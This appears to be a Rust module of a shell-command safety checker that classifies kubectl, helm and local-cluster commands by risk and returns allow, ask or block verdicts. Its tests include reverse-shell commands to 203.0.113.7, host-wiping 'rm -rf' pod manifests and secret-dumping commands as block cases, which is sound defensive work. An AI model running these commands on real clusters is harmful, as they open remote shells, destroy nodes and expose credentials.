//! Clusters: kubectl and its relatives, charts, and local clusters.

mod rendered;

use signoff_model::{EffectKind, Reversible, Risk};

use crate::{
    path_effects::{Write, rules},
    rule::{Priority, Rule},
    shell::{
        Call, Judge, Locus, Made, Shell, Written,
        families::{files::overlay, network::elsewhere},
        planted::BACK_DOOR,
        subcommands::{ByVerb, Deed, Line, Tool},
    },
    value::{Arg, Feed, Origin, Piece},
};

rules! {
    DELETE_MANY = Rule::new("cluster-delete-many", EffectKind::NetworkWrite, Risk::Critical, "deletes whole namespaces, volumes or everything of a kind from the cluster: {}", "从集群中删除整个命名空间、卷或某类全部对象：{}")
        .reversible(Reversible::No).priority(Priority::P0)
        .examples(&["kubectl delete --all namespaces", "kubectl delete ns prod", "kubectl delete pods --all", "kubectl delete pvc data-0"], &["kubectl delete pod web-1", "kubectl get ns"]);
    DELETE = Rule::new("cluster-delete", EffectKind::NetworkWrite, Risk::High, "deletes from the cluster: {}", "从集群中删除：{}")
        .reversible(Reversible::No)
        .examples(&["kubectl delete pod web-1", "helm uninstall app"], &["kubectl auth can-i delete pods", "kubectl delete pod web-1 --dry-run=client"]);
    CHANGE = Rule::new("cluster-change", EffectKind::NetworkWrite, Risk::High, "changes the cluster: {}", "更改集群：{}")
        .examples(&["kubectl apply -f k8s/", "kubectl scale deploy/api --replicas=0", "kubectl drain node-3", "helm upgrade app ./chart"], &["kubectl diff -f k8s/", "helm upgrade app ./chart --dry-run", "kubectl create deploy x --image=y --dry-run=client -o yaml"]);
    RUN = Rule::new("cluster-run", EffectKind::NetworkWrite, Risk::High, "runs something in the cluster: {}", "在集群中运行内容：{}")
        .examples(&["kubectl run x --image=alpine -- sh", "kubectl debug node/n1 -it --image=busybox", "kubectl exec -it web-1 -- bash"], &["kubectl exec web-1 -- ls /app", "kubectl logs web-1"]);
    SECRET = Rule::new("cluster-secret", EffectKind::SecretRead, Risk::High, "prints secrets of the cluster: {}", "输出集群中的机密：{}")
        .examples(&["kubectl get secret db -o yaml", "kubectl config view --raw", "kubectl create token admin"], &["kubectl get secrets", "kubectl config view"]);
    CONFIG = Rule::new("cluster-config", EffectKind::System, Risk::Medium, "changes the cluster log-ins of this account: {}", "更改本账号的集群登录配置：{}")
        .reversible(Reversible::Unknown)
        .examples(&["kubectl config delete-context prod", "kubectl config set-credentials me --token=x"], &["kubectl config get-contexts", "kubectl config use-context dev"]);
    SWITCH = Rule::new("cluster-switch", EffectKind::System, Risk::Low, "makes later commands go to another cluster or namespace: {}", "让之后的命令作用于另一个集群或命名空间：{}")
        .reversible(Reversible::Yes).priority(Priority::P2)
        .examples(&["kubectl config use-context dev", "kubectx dev"], &["kubectx"]);
    LOCAL = Rule::new("local-cluster-delete", EffectKind::Delete, Risk::Medium, "deletes a local cluster with all that runs in it: {}", "删除本地集群及其中运行的一切：{}")
        .reversible(Reversible::No)
        .examples(&["kind delete cluster", "minikube delete --all", "k3d cluster delete dev"], &["kind get clusters", "minikube status", "kind create cluster"]);
}

/// The judgement for a program of this family.
pub fn find(name: &str) -> Option<Judge> {
    tool(name).map(|_| judge as Judge)
}

fn judge(shell: &mut Shell<'_>, call: &Call) -> Feed {
    let master = call.args.iter().any(|arg| arg.shown().ends_with("cluster-admin"));
    let anybody = call.args.iter().any(|arg| {
        let shown = arg.shown();
        shown.ends_with("system:anonymous") || shown.ends_with("system:unauthenticated")
    });
    if master && anybody && call.has_any(&["create", "patch", "set", "edit"]) {
        shell.tell(&BACK_DOOR, "cluster-admin", call.span);
    }
    super::network::exposed::judge(shell, call);
    if call.has_any(&["apply", "create", "replace", "run"]) {
        shell.plant_manifest(call, &call.stdin.clone());
        let line = Line::read(&call.args, KUBECTL_VALUES);
        for file in line.all_values(&["-f", "--filename"]) {
            let path = shell.place(&file.value).path.clone();
            if let Some(content) = shell.written(&path).and_then(Written::content) {
                shell.plant_manifest(call, &content);
            }
        }
    }
    let Some(tool) = tool(&call.name) else { return Feed::none() };
    let line = Line::read(&call.args, tool.values);
    if std::ptr::eq(tool, &KUBECTL) && line.is_dry(tool.dry) {
        return rendered::output(shell, call, &line);
    }
    tool.judge_line(shell, call, &line)
}

fn tool(name: &str) -> Option<&'static Tool> {
    Some(match name {
        "kubectl" | "oc" | "kubecolor" | "k" | "microk8s.kubectl" => &KUBECTL,
        "k3s" | "microk8s" | "k0s" => &DISTRIBUTION,
        "kubectx" | "kubens" | "kubie" => &CONTEXT,
        "helm" | "helm3" => &HELM,
        "helmfile" => &HELMFILE,
        "kustomize" | "kubeval" | "kubeconform" | "kube-linter" | "kube-score" | "stern" | "k9s" | "kail"
        | "kubetail" | "popeye" | "pluto" | "kompose" | "polaris" | "kube-capacity" | "ksniff" | "kubent" => &LOOKS,
        "kops" => &KOPS,
        "kind" | "minikube" | "k3d" | "vcluster" | "colima" => &LOCAL_CLUSTER,
        "argocd" | "argo" | "flux" | "fluxctl" | "istioctl" | "linkerd" | "velero" | "cilium" | "kubeadm"
        | "eksctl" | "rancher" | "kubeseal" | "tkn" | "kn" | "crossplane" | "clusterctl" | "talosctl" | "kubevela"
        | "vela" | "rke" | "cmctl" | "longhornctl" | "virtctl" | "kubespray" | "kubefwd" | "odo" | "cdk8s" => {
            &OPERATORS
        }
        "skaffold" | "tilt" | "devspace" | "okteto" | "telepresence" | "garden" | "werf" | "draft" | "ko" => {
            &DEVELOPMENT
        }
        _ => return None,
    })
}

pub(super) const KUBECTL_VALUES: &str = "\
    -n --namespace --context --kubeconfig -o --output -l --selector -f --filename -c --container \
    --cluster --user -s --server --token --as --as-group --as-uid --field-selector --request-timeout -v \
    --v --replicas --image --timeout --grace-period --since --since-time --tail -p --patch --patch-file \
    --type --from-literal --from-file --from-env-file -k --kustomize --sort-by --template --cache-dir \
    --certificate-authority --client-certificate --client-key --field-manager --overrides --restart \
    --port --target-port --env --labels --name --raw --for --to-revision --revision --max-log-requests \
    --address --schedule --profile --target --copy-to --serviceaccount --cert --key --tcp --class \
    --rule --role --clusterrole --verb --resource --hard --username --password --log-file --docker-server \
    --docker-username --docker-password --docker-email";

static KUBECTL: Tool = Tool {
    values: KUBECTL_VALUES,
    dry: &["--dry-run"],
    deeds: &[
        (Deed::Judge(get), "get"),
        (
            Deed::Harmless,
            "\
            describe, logs, log, top, diff, explain, auth can-i, auth whoami, api-resources, api-versions, \
            cluster-info, version, kustomize, wait, options, plugin, events, rollout status, rollout history, \
            apply view-last-applied, port-forward, proxy, config current-context, config get-contexts, \
            config get-clusters, config get-users, status, whoami, projects, project, alpha events, tree, neat, \
            ctx, ns, who-can, get-all, krew list, krew search, krew info, krew update, convert, stern, adm top, \
            adm must-gather, observe, extract",
        ),
        (Deed::Judge(config), "config"),
        (Deed::Reveal(&SECRET), "create token, view-secret, serviceaccounts get-token, sa get-token"),
        (Deed::Judge(delete), "delete"),
        (Deed::Judge(label), "label, annotate"),
        (Deed::Judge(exec), "exec, rsh"),
        (Deed::Judge(copy), "cp, rsync"),
        (Deed::Judge(run_new), "run, debug, create job, create cronjob"),
        (Deed::Tell(&RUN), "attach, node-shell, adm node-logs, start-build"),
        (Deed::Tell(&CONFIG), "login, logout, krew install, krew uninstall, krew upgrade"),
    ],
    otherwise: Deed::Tell(&CHANGE),
};

/// `get` reads; only the content of secrets is more than that.
fn get(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
    let kinds = line.words.get(1).and_then(|word| word.known()).unwrap_or_default();
    let is_secret = |word: &str| word.split([',', '/']).next().is_some_and(|kind| matches!(kind, "secret" | "secrets"));
    let named = line
        .words_from(1)
        .iter()
        .filter_map(|word| word.known())
        .any(|word| is_secret(word) || word.split(',').any(|kind| matches!(kind, "secret" | "secrets")));
    let output = line.value(&["-o", "--output"]).map(|output| output.shown().into_owned()).unwrap_or_default();
    // What came out of a list of secrets names one, whatever its kind in front says.
    let listed = line
        .words_from(1)
        .iter()
        .flat_map(|word| word.value.origins())
        .any(|origin| matches!(origin, Origin::Listing { under, .. } if under == SECRETS));
    let named = named || listed;
    let raw = line.value(&["--raw"]).is_some_and(|path| path.shown().contains("/secrets"));
    let shows = !matches!(output.as_str(), "" | "wide" | "name") && !output.starts_with("custom-columns=NAME")
        || line.has(&["--template"]);
    if (named || kinds == "all,secrets") && shows || raw {
        return Deed::Reveal(&SECRET).done(shell, call, line);
    }
    if named { Feed::from(Origin::listing(call.name.clone(), SECRETS)) } else { call.output() }
}

/// How a list of the secrets of a cluster is called.
const SECRETS: &str = "secrets of the cluster";

fn config(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
    let deed = match line.word(1) {
        None => Deed::Harmless,
        Some("view") if line.has(&["--raw"]) => Deed::Reveal(&SECRET),
        Some("view") => Deed::Harmless,
        Some("use-context" | "use" | "set-context") => Deed::Tell(&SWITCH),
        _ => Deed::Tell(&CONFIG),
    };
    deed.done(shell, call, line)
}

fn delete(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
    const WHOLE: &[&str] = &[
        "ns",
        "namespace",
        "namespaces",
        "pv",
        "pvc",
        "persistentvolume",
        "persistentvolumes",
        "persistentvolumeclaim",
        "persistentvolumeclaims",
        "crd",
        "crds",
        "customresourcedefinition",
        "customresourcedefinitions",
        "node",
        "nodes",
        "no",
        "project",
        "projects",
        "all",
        "clusterrole",
        "statefulset",
        "statefulsets",
        "sts",
    ];
    let kind = line.word(1).unwrap_or_default();
    let kinds = kind.split('/').next().unwrap_or_default();
    let whole = line.has(&["--all", "-A", "--all-namespaces"]) || kinds.split(',').any(|kind| WHOLE.contains(&kind));
    let deed = if whole { Deed::Tell(&DELETE_MANY) } else { Deed::Tell(&DELETE) };
    if shell.locus() == &Locus::Here && call.args.iter().all(|arg| arg.known().is_some()) {
        let words: Vec<_> = call.args.iter().filter_map(Arg::known).collect();
        if !words.iter().any(|word| word.contains([' ', '\'', '"', '$', '*'])) {
            shell.safer(format!("{} {} --dry-run=client", call.name, words.join(" ")));
        }
    }
    deed.done(shell, call, line)
}

fn label(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
    Deed::done(if line.has(&["--list"]) { Deed::Harmless } else { Deed::Tell(&CHANGE) }, shell, call, line)
}

/// What runs in a pod is judged like a command on another machine.
fn exec(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
    let pod = line.words.get(1).map_or_else(String::new, |pod| pod.shown().into_owned());
    // Without `--` the command begins behind the pod, and its options are its own.
    let begins = line.words.get(2).and_then(|word| call.args.iter().position(|arg| std::ptr::eq(arg, *word)));
    let argv: Vec<Arg> = match begins {
        Some(at) if line.rest.is_empty() => call.args.get(at..).unwrap_or_default().to_vec(),
        _ => line.rest.to_vec(),
    };
    let opens_shell = match argv.as_slice() {
        [] => true,
        [only] => {
            only.known().is_some_and(|name| matches!(name.rsplit('/').next(), Some("sh" | "bash" | "ash" | "zsh")))
        }
        _ => false,
    };
    if opens_shell && call.stdin.is_none() {
        return Deed::Tell(&RUN).done(shell, call, line);
    }
    if super::containers::ends_container(shell, &pod, &argv, call.span) {
        return Feed::none();
    }
    if !elsewhere::is_judged_by_itself(&argv) {
        shell.tell(&RUN, line.named(&call.name), call.span);
    }
    shell.elsewhere(Locus::Remote(pod), |shell| shell.run(&argv, call.stdin.clone(), call.span))
}

/// A pod is made for a command: that is a change, and what the command does counts as well.
fn run_new(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
    let pod = line.words.get(1).map_or_else(String::new, |pod| pod.shown().into_owned());
    if !line.rest.is_empty() {
        shell.elsewhere(Locus::Remote(pod), |shell| shell.run(line.rest, call.stdin.clone(), call.span));
    }
    Deed::Tell(if line.word(0) == Some("create") { &CHANGE } else { &RUN }).done(shell, call, line)
}

fn copy(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
    match line.words.as_slice() {
        [_, _, to] if to.shown().contains(':') => Deed::Tell(&CHANGE).done(shell, call, line),
        [_, from, to] => {
            shell.write(to, Write::Replace);
            overlay(shell, from, to);
            Feed::none()
        }
        _ => Feed::none(),
    }
}

/// Distributions that bring their own kubectl: `k3s kubectl delete …`.
static DISTRIBUTION: Tool = Tool {
    values: "",
    dry: &[],
    deeds: &[
        (Deed::Judge(inner_kubectl), "kubectl, helm, helm3"),
        (Deed::Harmless, "status, check-config, inspect, version, etcd-snapshot ls, certificate check, token list"),
        (Deed::Tell(&SECRET), "config, token create"),
    ],
    otherwise: Deed::Tell(&CHANGE),
};

fn inner_kubectl(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
    let at = call.args.iter().position(|arg| line.words.first().is_some_and(|word| *word == arg)).unwrap_or(0);
    // `minikube kubectl -- delete …`: the dashes end the options of the distribution.
    let mut argv = call.args.get(at..).unwrap_or_default().to_vec();
    if argv.get(1).is_some_and(|arg| arg.is("--")) {
        argv.remove(1);
    }
    shell.run(&argv, call.stdin.clone(), call.span)
}

static CONTEXT: Tool =
    Tool { values: "", dry: &[], deeds: &[(Deed::Harmless, "list, ls, lint")], otherwise: Deed::Judge(switch) };

fn switch(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
    let deed = if line.has(&["-d"]) {
        Deed::Tell(&CONFIG)
    } else if line.words.is_empty() {
        Deed::Harmless
    } else {
        Deed::Tell(&SWITCH)
    };
    deed.done(shell, call, line)
}

static HELM: Tool = Tool {
    values: "\
        -n --namespace --kube-context --kubeconfig -f --values --set --set-string --set-file --set-json \
        --version --repo --timeout -o --output --post-renderer --username --password --description -d \
        --destination --kube-token --kube-apiserver --revision --max --history-max --name-template",
    dry: &["--dry-run"],
    deeds: &[
        (Deed::Judge(helm_render), "template, lint"),
        (
            Deed::Harmless,
            "\
            list, ls, status, history, hist, show, inspect, search, get, env, version, create, package, pull, \
            fetch, verify, dependency, dep, repo, diff, plugin list, plugin ls, docs, unittest, schema-gen, \
            registry logout, completion",
        ),
        (Deed::Reveal(&SECRET), "secrets view, secrets decrypt, secrets dec, secrets edit"),
        (Deed::Tell(&DELETE), "uninstall, delete, del, un"),
        (Deed::Tell(&CONFIG), "registry login, plugin install, plugin update, plugin uninstall, repo remove"),
    ],
    otherwise: Deed::Tell(&CHANGE),
};

/// Rendering is harmless, but a post-renderer is a program.
fn helm_render(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
    if let Some(program) = line.value(&["--post-renderer"]) {
        shell.run(&[program], Feed::none(), call.span);
    }
    call.output()
}

static HELMFILE: Tool = Tool {
    values: "-f --file -e --environment -n --namespace -l --selector --kube-context --state-values-set",
    dry: &[],
    deeds: &[
        (
            Deed::Harmless,
            "diff, template, lint, list, build, deps, fetch, repos, status, show-dag, write-values, cache, test",
        ),
        (Deed::Tell(&DELETE_MANY), "destroy, delete"),
    ],
    otherwise: Deed::Tell(&CHANGE),
};

static LOOKS: Tool = Tool { values: "", dry: &[], deeds: &[], otherwise: Deed::Harmless };

static LOCAL_CLUSTER: Tool = Tool {
    values: "--name -n --config --image -p --profile --kubeconfig --driver --cpus --memory --namespace",
    dry: &[],
    deeds: &[
        (Deed::Judge(inner_kubectl), "kubectl"),
        (Deed::Judge(make_cluster), "create, cluster create"),
        (Deed::Judge(delete_cluster), "delete, cluster delete, cluster rm, rm"),
        (Deed::Tell(&LOCAL), "node delete, registry delete"),
        (Deed::Judge(ssh), "ssh"),
    ],
    otherwise: Deed::Harmless,
};

/// The name that a local cluster is known by; none if it may change between two commands.
fn cluster_name(call: &Call, line: &Line<'_>) -> Option<String> {
    let is_name = |word: &&Arg| !matches!(word.known(), Some("create" | "delete" | "rm" | "cluster"));
    let words = line.words.iter().copied().filter(is_name);
    let mut named = line.value(&["--name", "-n", "-p", "--profile"]).into_iter().chain(words.cloned());
    let name = named.next().unwrap_or_default();
    // Of several, each would have to be looked at.
    if named.next().is_some() || !matches!(call.name.as_str(), "kind" | "k3d") {
        return None;
    }
    // The number of the shell is the same wherever it stands.
    let stays = name.value.pieces().iter().all(|piece| match piece {
        Piece::Text(_) => true,
        Piece::Unknown(unknown) => unknown.shown == "$$",
        Piece::Glob(_) => false,
    });
    stays.then(|| format!("{} {}", call.name, name.shown()))
}

fn make_cluster(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
    // With any other option it may be another one, or none.
    const PLAIN: &[&str] = &[
        "--name",
        "-n",
        "--image",
        "-i",
        "--wait",
        "--retain",
        "--kubeconfig",
        "--agents",
        "--servers",
        "--timeout",
        "--quiet",
        "-q",
    ];
    let is_plain = |arg: &Arg| {
        let text = arg.value.prefix();
        !text.starts_with('-') || PLAIN.contains(&text.split('=').next().unwrap_or_default())
    };
    if let Some(name) = cluster_name(call, line)
        && call.args.iter().all(is_plain)
    {
        shell.note_made(Made::Cluster(name));
    }
    call.output()
}

fn delete_cluster(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
    let own = cluster_name(call, line).is_some_and(|name| shell.removes_made(&Made::Cluster(name)));
    if !own || line.has(&["--all", "-a", "-A"]) {
        shell.tell(&LOCAL, line.named(&call.name), line.span().unwrap_or(call.span));
    }
    call.output()
}

fn ssh(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
    let argv: Vec<Arg> = if line.rest.is_empty() {
        line.words_from(1).iter().map(|word| (*word).clone()).collect()
    } else {
        line.rest.to_vec()
    };
    if let [only] = argv.as_slice() {
        return shell.elsewhere(Locus::Remote(call.name.to_string()), |shell| {
            shell.run_text(only, signoff_model::Dialect::Sh, Feed::none())
        });
    }
    shell.elsewhere(Locus::Remote(call.name.to_string()), |shell| shell.run(&argv, call.stdin.clone(), call.span))
}

static VERBS: ByVerb =
    ByVerb { destroys: Deed::Tell(&DELETE), changes: Deed::Tell(&CHANGE), unclear: Deed::Tell(&CHANGE) };

static OPERATORS: Tool = Tool {
    values: "\
        -n --namespace --context --kubeconfig -o --output --server --auth-token --project -f --file \
        --cluster --region --name --state --profile -r --revision --nodes --endpoints -e --talosconfig \
        --config --app --path",
    dry: &["--dry-run", "--export"],
    deeds: &[
        (
            Deed::Harmless,
            "\
            completion, proxy-status, ps, pc, proxy-config, analyze, x, experimental describe, app diff, \
            app wait, app history, app manifests, tree, stats, trace, events, logs, check, dashboard, \
            bug-report, get, config images list, config print, validate, kube-inject, connectivity, status, \
            viz, build, manifest generate, manifest diff, render, beta, generate, dmesg, dev, list, repo list, \
            cluster list, utils schema, registry, component",
        ),
        (
            Deed::Tell(&CHANGE),
            "\
            init, join, reset, install, uninstall, bootstrap, reconcile, suspend, resume, create cluster, \
            create secret, gen, app sync, upgrade, upgrade apply",
        ),
        (Deed::Harmless, "upgrade plan, certs check-expiration"),
        (
            Deed::Reveal(&SECRET),
            "kubeconfig, get kubeconfig, account generate-token, admin initial-password, token create",
        ),
        (Deed::Tell(&CONFIG), "login, logout, context, write-kubeconfig, utils write-kubeconfig"),
    ],
    otherwise: Deed::ByVerb(&VERBS),
};

static KOPS: Tool = Tool {
    values: "--name --state -o --output --lifecycle-overrides --phase --target -f --filename --config",
    dry: &["--dry-run"],
    deeds: &[
        (Deed::Judge(kops), "update cluster, rolling-update cluster, upgrade cluster, delete cluster, delete instance"),
        (Deed::Reveal(&SECRET), "get secrets, get keypairs"),
        (Deed::Tell(&CONFIG), "export"),
        (Deed::Harmless, "get, validate, version, toolbox dump, toolbox template, completion"),
    ],
    otherwise: Deed::ByVerb(&VERBS),
};

/// These only show what they would do until somebody says yes.
fn kops(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
    if line.has(&["--yes", "-y"]) {
        let rule = if line.words.first().is_some_and(|verb| verb.is("delete")) { &DELETE } else { &CHANGE };
        shell.tell(rule, line.named(&call.name), line.span().unwrap_or(call.span));
    }
    call.output()
}

static DEVELOPMENT: Tool = Tool {
    values: "-n --namespace -p --profile -f --filename --kube-context -t --tag --default-repo",
    dry: &["--dry-run", "--render-only"],
    deeds: &[
        (Deed::Tell(&DELETE), "delete, down, destroy, purge, cleanup"),
        (Deed::Tell(&CHANGE), "run, deploy, apply, up, dev, debug, push, resolve, publish, connect, intercept, ci"),
        (
            Deed::Harmless,
            "\
            init, build, render, diagnose, fix, test, verify, config, schema, get, logs, list, status, doctor, \
            version",
        ),
    ],
    otherwise: Deed::ByVerb(&VERBS),
};

#[cfg(test)]
mod tests {
    use signoff_model::Verdict;

    use crate::testing::check;

    #[test]
    fn looking_and_dry_runs_are_allowed() {
        check(
            Verdict::Allow,
            &[
                "kubectl get pods -A",
                "kubectl -n prod get deploy -o yaml",
                "kubectl get secrets",
                "kubectl describe secret db",
                "kubectl auth can-i delete pods",
                "kubectl diff -f k8s/",
                "kubectl apply -f k8s/ --dry-run=client",
                "kubectl create deployment x --image=y --dry-run -o yaml",
                "kubectl config view",
                "kubectl config current-context",
                "kubectl config use-context dev",
                "kubectl rollout status deployment/api",
                "kubectl logs -f deploy/api --since 1h",
                "kubectl port-forward svc/api 8080:80",
                "kubectl exec web-1 -- ls /app",
                "kubectl exec web-1 -c app -- env -0 --help",
                "kubectl delete --help",
                "helm template ./chart | head",
                "helm upgrade --install app ./chart --dry-run",
                "helm list -A",
                "helm repo add bitnami https://charts.example.com",
                "kind create cluster",
                "minikube start",
                "kustomize build overlays/prod",
                "argocd app get web",
                "flux get kustomizations",
                "istioctl analyze",
                "k9s",
            ],
        );
    }

    #[test]
    fn changes_ask() {
        check(
            Verdict::Ask,
            &[
                "kubectl delete --all namespaces",
                "kubectl delete pod web-1",
                "kubectl delete all --all -n monitoring --force --grace-period=0",
                "kubectl apply -f k8s/",
                "kubectl apply -f k8s/ --dry-run=none",
                "kubectl --context prod -n web scale deploy/api --replicas=0",
                "kubectl drain node-3 --force",
                "kubectl rollout undo deploy/api",
                "kubectl edit service/web",
                "kubectl get secret db -o jsonpath='{.data.password}'",
                "kubectl get secret/db -ojson",
                "kubectl get pods,secrets -o yaml",
                "kubectl config view --raw",
                "kubectl config delete-context prod",
                "kubectl exec -it web-1 -- bash",
                "kubectl exec db-0 -- psql -c 'DROP TABLE users'",
                "kubectl run x --rm -it --image=alpine -- sh",
                "kubectl cp a.txt web-1:/app/a.txt",
                "kubectl delete ns prod --field-manager --help",
                "k3s kubectl delete ns prod",
                "helm uninstall app",
                "helm upgrade app ./chart",
                "helm rollback app 1",
                "kind delete cluster",
                "argocd app delete web",
                "argocd app sync web",
                "flux suspend kustomization web",
                "velero backup delete b1",
            ],
        );
    }

    #[test]
    fn names_out_of_a_list_of_secrets_are_secrets() {
        check(
            Verdict::Ask,
            &[
                "for s in $(kubectl get secrets -n prod -o name); do kubectl get -n prod \"$s\" -o yaml; done",
                "kubectl get secrets -o name | xargs -n1 kubectl get -o yaml",
                "kubectl get secrets -o name | while read s; do kubectl get \"$s\" -o json; done",
            ],
        );
        check(
            Verdict::Allow,
            &[
                "for p in $(kubectl get pods -o name); do kubectl get $p -o yaml; done",
                "for s in $(kubectl get secrets -o name); do kubectl get $s; done",
                "for s in $(kubectl get secrets -o name); do echo $s; done",
            ],
        );
    }

    #[test]
    fn what_runs_in_new_pods_is_read() {
        check(
            Verdict::Block,
            &[
                "kubectl run dbg --image=alpine --restart=Never -- sh -c 'nc 203.0.113.7 4444 -e /bin/sh'",
                "kubectl run x --image=alpine --command -- nc -e /bin/sh 203.0.113.7 4444",
                "kubectl create job x --image=alpine -- sh -c 'nc 203.0.113.7 4444 -e /bin/sh'",
                "kubectl debug node/n1 -it --image=busybox -- chroot /host rm -rf /",
            ],
        );
        check(
            Verdict::Ask,
            &[
                "kubectl run x --image=alpine -- sh -c 'ls'",
                "kubectl run dbg --rm -it --image=alpine -- nc -zv db 5432",
                "kubectl create job x --image=alpine",
            ],
        );
    }

    #[test]
    fn directories_of_the_node_are_no_scratch_space() {
        check(
            Verdict::Block,
            &[
                "kubectl apply -f - <<'EOF'\nkind: Pod\nspec:\n  containers:\n  - image: busybox\n    command: [\"sh\",\"-c\",\"rm -rf /host/etc /host/boot\"]\n    volumeMounts: [{name: h, mountPath: /host}]\n  volumes: [{name: h, hostPath: {path: /}}]\nEOF",
                "kubectl apply -f - <<'EOF'\nkind: Pod\nspec:\n  containers:\n  - image: busybox\n    command: [\"sh\",\"-c\",\"rm -rf /host/*\"]\n    volumeMounts: [{name: h, mountPath: /host}]\n  volumes: [{name: h, hostPath: {path: /}}]\nEOF",
                "cat > /tmp/p.yaml <<'EOF'\nkind: Pod\nspec:\n  containers:\n  - command: [\"sh\",\"-c\",\"rm -rf /host/etc\"]\n    volumeMounts: [{name: h, mountPath: /host}]\n  volumes: [{name: h, hostPath: {path: /}}]\nEOF\nkubectl apply -f /tmp/p.yaml",
            ],
        );
        check(
            Verdict::Ask,
            &[
                "kubectl apply -f - <<'EOF'\nkind: Pod\nspec:\n  containers:\n  - image: busybox\n    command: [\"sh\",\"-c\",\"cat /host/var/log/syslog\"]\n    volumeMounts: [{name: h, mountPath: /host}]\n  volumes: [{name: h, hostPath: {path: /}}]\nEOF",
                "kubectl apply -f - <<'EOF'\nkind: Pod\nspec:\n  containers:\n  - image: busybox\n    command: [\"sh\",\"-c\",\"rm -rf /host/tmp/x\"]\n    volumeMounts: [{name: h, mountPath: /host}]\n  volumes: [{name: h, hostPath: {path: /}}]\nEOF",
                "kubectl apply -f - <<'EOF'\nkind: Pod\nspec:\n  containers:\n  - image: busybox\n    command: [\"sh\",\"-c\",\"rm -rf /host/*\"]\n    volumeMounts: [{name: h, mountPath: /host}]\n  volumes: [{name: h, emptyDir: {}}]\nEOF",
                "kubectl apply -f - <<'EOF'\nkind: Pod\nspec:\n  containers:\n  - image: busybox\n    command: [\"sh\",\"-c\",\"rm -rf /data/old\"]\n    volumeMounts: [{name: h, mountPath: /data}]\n  volumes: [{name: h, hostPath: {path: /srv/data}}]\nEOF",
            ],
        );
    }
}
